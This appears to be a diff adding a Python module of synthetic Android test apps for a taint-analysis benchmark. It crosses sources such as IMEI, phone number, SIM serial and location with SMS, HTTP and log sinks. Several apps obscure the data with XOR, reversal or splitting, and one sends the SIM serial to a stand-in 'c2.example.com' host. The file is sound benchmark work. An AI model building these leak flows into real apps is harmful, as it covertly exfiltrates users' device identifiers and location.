@@ -1,0 +1,242 @@
+"""DroidBench supplement: source/sink coverage and obfuscated direct flows.
+
+These apps widen the matrix the paper evaluates — every source (device ID,
+phone number, SIM serial, location) crossed with every sink (SMS, HTTP,
+log), plus value transformations (XOR, reversal, splitting, numeric
+round-trips) whose native distances place them at different points of the
+Figure 11 bands.
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.android.device import AndroidDevice
+from repro.dalvik.builder import MethodBuilder
+from repro.dalvik.vm import Method
+from repro.apps.droidbench.common import (
+    BenchApp,
+    append_const,
+    append_string,
+    builder_to_string,
+    concat_const_and,
+    fetch_imei,
+    fetch_location,
+    fetch_phone_number,
+    fetch_sim_serial,
+    new_builder,
+    send_http,
+    send_log,
+    send_sms_to,
+)
+
+
+def _phone_number_sms(device: AndroidDevice) -> List[Method]:
+    b = MethodBuilder("PhoneNumberSMS.main", registers=12)
+    fetch_phone_number(b, 0)
+    concat_const_and(b, "msisdn=", 0, 1, 2, 3)
+    send_sms_to(b, 1, 4, 5)
+    b.return_void()
+    return [b.build()]
+
+
+def _sim_serial_http(device: AndroidDevice) -> List[Method]:
+    b = MethodBuilder("SimSerialHTTP.main", registers=12)
+    fetch_sim_serial(b, 0)
+    concat_const_and(b, "http://c2.example.com/?iccid=", 0, 1, 2, 3)
+    send_http(b, 1, 4, 5)
+    b.return_void()
+    return [b.build()]
+
+
+def _device_id_log(device: AndroidDevice) -> List[Method]:
+    b = MethodBuilder("DeviceIdLog.main", registers=12)
+    fetch_imei(b, 0)
+    concat_const_and(b, "device: ", 0, 1, 2, 3)
+    send_log(b, 1, 4)
+    b.return_void()
+    return [b.build()]
+
+
+def _location_http(device: AndroidDevice) -> List[Method]:
+    """Both coordinates in one HTTP query — the GPS/float path (NI>=10)."""
+    b = MethodBuilder("LocationHTTP.main", registers=14)
+    fetch_location(b, 0)
+    b.invoke("Location.getLatitude", 0)
+    b.move_result_wide(2)
+    b.invoke("Location.getLongitude", 0)
+    b.move_result_wide(4)
+    new_builder(b, 6)
+    append_const(b, 6, "http://geo.example.com/?lat=", 7)
+    b.invoke("StringBuilder.appendDouble", 6, 2, 3)
+    append_const(b, 6, "&lon=", 7)
+    b.invoke("StringBuilder.appendDouble", 6, 4, 5)
+    builder_to_string(b, 6, 8)
+    send_http(b, 8, 9, 10)
+    b.return_void()
+    return [b.build()]
+
+
+def _multi_source_leak(device: AndroidDevice) -> List[Method]:
+    b = MethodBuilder("MultiSourceLeak.main", registers=14)
+    fetch_imei(b, 0)
+    fetch_phone_number(b, 1)
+    new_builder(b, 2)
+    append_const(b, 2, "id=", 3)
+    append_string(b, 2, 0)
+    append_const(b, 2, "&num=", 3)
+    append_string(b, 2, 1)
+    builder_to_string(b, 2, 4)
+    send_sms_to(b, 4, 5, 6)
+    b.return_void()
+    return [b.build()]
+
+
+def _xor_obfuscation(device: AndroidDevice) -> List[Method]:
+    """Each char XORed with a key before transmission (distance-5 flow)."""
+    b = MethodBuilder("XorObfuscation.main", registers=16)
+    fetch_imei(b, 0)
+    b.invoke("String.length", 0)
+    b.move_result(2)
+    b.new_array(4, 2, "[C")
+    b.const(3, 0)
+    b.const(11, 0x2A)  # the XOR key
+    b.invoke("String.toCharArray", 0)
+    b.move_result_object(1)
+    b.label("loop")
+    b.if_ge(3, 2, "done")
+    b.aget_char(5, 1, 3)
+    b.xor_int(6, 5, 11)
+    b.aput_char(6, 4, 3)
+    b.add_int_lit8(3, 3, 1)
+    b.goto("loop")
+    b.label("done")
+    b.invoke_static("String.fromChars", 4)
+    b.move_result_object(7)
+    send_sms_to(b, 7, 8, 9)
+    b.return_void()
+    return [b.build()]
+
+
+def _reverse_string(device: AndroidDevice) -> List[Method]:
+    """The IMEI reversed char by char, then texted."""
+    b = MethodBuilder("ReverseString.main", registers=16)
+    fetch_imei(b, 0)
+    b.invoke("String.length", 0)
+    b.move_result(2)
+    b.new_array(4, 2, "[C")
+    b.const(3, 0)
+    b.invoke("String.toCharArray", 0)
+    b.move_result_object(1)
+    b.label("loop")
+    b.if_ge(3, 2, "done")
+    b.aget_char(5, 1, 3)
+    b.sub_int(6, 2, 3)
+    b.add_int_lit8(6, 6, -1)  # mirror index
+    b.aput_char(5, 4, 6)
+    b.add_int_lit8(3, 3, 1)
+    b.goto("loop")
+    b.label("done")
+    b.invoke_static("String.fromChars", 4)
+    b.move_result_object(7)
+    send_sms_to(b, 7, 8, 9)
+    b.return_void()
+    return [b.build()]
+
+
+def _char_array_copy(device: AndroidDevice) -> List[Method]:
+    """System.arraycopy relays the tainted buffer."""
+    b = MethodBuilder("CharArrayCopy.main", registers=16)
+    fetch_imei(b, 0)
+    b.invoke("String.length", 0)
+    b.move_result(2)
+    b.new_array(4, 2, "[C")
+    b.invoke("String.toCharArray", 0)
+    b.move_result_object(1)
+    b.const(5, 0)
+    b.invoke_static("System.arraycopy", 1, 5, 4, 5, 2)
+    b.invoke_static("String.fromChars", 4)
+    b.move_result_object(6)
+    send_sms_to(b, 6, 7, 8)
+    b.return_void()
+    return [b.build()]
+
+
+def _long_device_id(device: AndroidDevice) -> List[Method]:
+    """Digits re-encoded through the long->string helper path (NI ~ 9)."""
+    b = MethodBuilder("LongDeviceId.main", registers=16)
+    fetch_phone_number(b, 0)
+    b.const(1, 2)
+    b.const(2, 10)
+    b.invoke("String.substring", 0, 1, 2)
+    b.move_result_object(3)
+    b.invoke_static("Integer.parseInt", 3)
+    b.move_result(4)
+    b.raw("int-to-long", a=6, b=4)
+    new_builder(b, 8)
+    append_const(b, 8, "n:", 9)
+    b.invoke("StringBuilder.appendLong", 8, 6, 7)
+    builder_to_string(b, 8, 10)
+    send_sms_to(b, 10, 11, 12)
+    b.return_void()
+    return [b.build()]
+
+
+def _split_reassemble(device: AndroidDevice) -> List[Method]:
+    """The IMEI split into halves, shipped in swapped order."""
+    b = MethodBuilder("SplitReassemble.main", registers=16)
+    fetch_imei(b, 0)
+    b.const(1, 0)
+    b.const(2, 7)
+    b.invoke("String.substring", 0, 1, 2)
+    b.move_result_object(3)  # first half
+    b.const(1, 7)
+    b.const(2, 15)
+    b.invoke("String.substring", 0, 1, 2)
+    b.move_result_object(4)  # second half
+    b.invoke("String.concat", 4, 3)  # swapped
+    b.move_result_object(5)
+    concat_const_and(b, "frag=", 5, 6, 7, 8)
+    send_sms_to(b, 6, 9, 10)
+    b.return_void()
+    return [b.build()]
+
+
+def _two_sinks(device: AndroidDevice) -> List[Method]:
+    """A clean log line and a tainted SMS from the same run."""
+    b = MethodBuilder("TwoSinks.main", registers=14)
+    b.const_string(0, "startup ok")
+    send_log(b, 0, 1)
+    fetch_imei(b, 2)
+    concat_const_and(b, "x=", 2, 3, 4, 5)
+    send_sms_to(b, 3, 6, 7)
+    b.return_void()
+    return [b.build()]
+
+
+APPS = [
+    BenchApp("Misc.PhoneNumberSMS", "misc", True, _phone_number_sms,
+             "PhoneNumberSMS.main", "Phone number over SMS.", 2),
+    BenchApp("Misc.SimSerialHTTP", "misc", True, _sim_serial_http,
+             "SimSerialHTTP.main", "SIM serial in an HTTP query.", 2),
+    BenchApp("Misc.DeviceIdLog", "misc", True, _device_id_log,
+             "DeviceIdLog.main", "IMEI written to the log.", 2),
+    BenchApp("Misc.LocationHTTP", "misc", True, _location_http,
+             "LocationHTTP.main",
+             "Latitude and longitude in one HTTP query (NI>=10).", 10),
+    BenchApp("Misc.MultiSourceLeak", "misc", True, _multi_source_leak,
+             "MultiSourceLeak.main", "IMEI and phone number together.", 2),
+    BenchApp("Misc.XorObfuscation", "misc", True, _xor_obfuscation,
+             "XorObfuscation.main", "Per-char XOR before sending.", 5),
+    BenchApp("Misc.ReverseString", "misc", True, _reverse_string,
+             "ReverseString.main", "IMEI reversed then texted.", 2),
+    BenchApp("Misc.CharArrayCopy", "misc", True, _char_array_copy,
+             "CharArrayCopy.main", "System.arraycopy relays the buffer.", 2),
+    BenchApp("Misc.LongDeviceId", "misc", True, _long_device_id,
+             "LongDeviceId.main",
+             "Digits re-encoded via the long->string helper.", 11),
+    BenchApp("Misc.SplitReassemble", "misc", True, _split_reassemble,
+             "SplitReassemble.main", "IMEI halves shipped swapped.", 2),
+    BenchApp("Misc.TwoSinks", "misc", True, _two_sinks,
+             "TwoSinks.main", "Clean log line plus tainted SMS.", 2),
+]
